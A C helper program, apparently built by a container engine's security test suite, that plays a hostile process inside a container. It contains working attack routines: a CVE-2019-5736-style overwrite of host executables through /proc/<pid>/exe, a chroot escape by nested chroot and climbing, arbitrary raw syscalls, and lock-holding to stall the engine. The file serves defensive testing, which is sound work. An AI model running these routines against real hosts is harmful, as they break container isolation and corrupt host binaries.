/* What a hostile program in a container tries; built static by attack.bats. Each verb prints what it got. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t is_over;

static void
on_term(int number)
{
    (void)number;
    is_over = 1;
}

/*
 * CVE-2019-5736: keeps a descriptor of every executable that is not ours, and writes to it once it is not busy; until
 * SIGTERM, and once more after it. Makes the file `mark` when it has one.
 */
static int
overwrite(const char *mark)
{
    struct stat own, other;
    bool is_last;
    long seen = 0, written = 0;
    int held[64], count = 0;
    char path[64];

    if (stat("/proc/self/exe", &own) < 0 || signal(SIGTERM, on_term) == SIG_ERR)
        return 1;
    /* without a pause: the engine is there for a millisecond */
    do {
        is_last = is_over;
        for (int pid = 1; pid < 200; pid++) {
            (void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
            int fd = count < 64 ? open(path, O_RDONLY) : -1;

            if (fd < 0)
                continue;
            if (fstat(fd, &other) < 0 || (other.st_dev == own.st_dev && other.st_ino == own.st_ino)) {
                close(fd);
                continue;
            }
            if (seen++ == 0)
                close(open(mark, O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
            held[count++] = fd;
        }
        for (int k = 0; k < count; k++) {
            (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", held[k]);
            int fd = open(path, O_WRONLY);

            if (fd >= 0) {
                written += write(fd, "#!/bin/false\n", 13) > 0;
                close(fd);
            }
        }
    } while (!is_last);
    printf("seen %s, written %ld\n", seen > 0 ? "some" : "none", written);
    return 0;
}

/* One raw system call: number and arguments; prints "ok" or the errno. In a child, as some would end us. */
static int
call(int argc, char **argv)
{
    long a[7] = {0};
    int status;

    for (int i = 0; i < argc && i < 7; i++)
        a[i] = (long)strtoull(argv[i], NULL, 0);
    (void)fflush(stdout);
    if (fork() == 0) {
        long result = syscall(a[0], a[1], a[2], a[3], a[4], a[5], a[6]);

        if (result >= 0)
            printf("%ld ok\n", a[0]);
        else
            printf("%ld %s\n", a[0], strerrorname_np(errno));
        (void)fflush(stdout);
        _exit(0);
    }
    (void)wait(&status);
    return 0;
}

/* The old way out of a chroot: a root below the working directory, which then climbs. Prints where it arrives. */
static int
above(void)
{
    struct stat own, reached;

    if (stat("/", &own) < 0 || (mkdir("/hole", 0700) < 0 && errno != EEXIST) || chroot("/hole") < 0)
        return 1;
    for (int i = 0; i < 64; i++) {
        if (chdir("..") < 0)
            return 1;
    }
    if (stat(".", &reached) < 0)
        return 1;
    puts(own.st_dev == reached.st_dev && own.st_ino == reached.st_ino ? "its own root" : "above its root");
    return 0;
}

/* Takes the lock of each file that the engine may want, and keeps it. */
static int
lock_all(int count, char **paths)
{
    for (int i = 0; i < count; i++) {
        if (flock(open(paths[i], O_RDONLY), LOCK_EX) < 0)
            return 1;
    }
    puts("locked");
    (void)fflush(stdout);
    return pause();
}

int
main(int argc, char **argv)
{
    if (argc >= 3 && strcmp(argv[1], "overwrite") == 0)
        return overwrite(argv[2]);
    if (argc >= 3 && strcmp(argv[1], "call") == 0)
        return call(argc - 2, argv + 2);
    if (argc >= 3 && strcmp(argv[1], "lock") == 0)
        return lock_all(argc - 2, argv + 2);
    if (argc == 2 && strcmp(argv[1], "above") == 0)
        return above();
    if (argc == 2 && strcmp(argv[1], "euid") == 0)
        return printf("%d\n", (int)geteuid()) < 0;
    return 2;
}
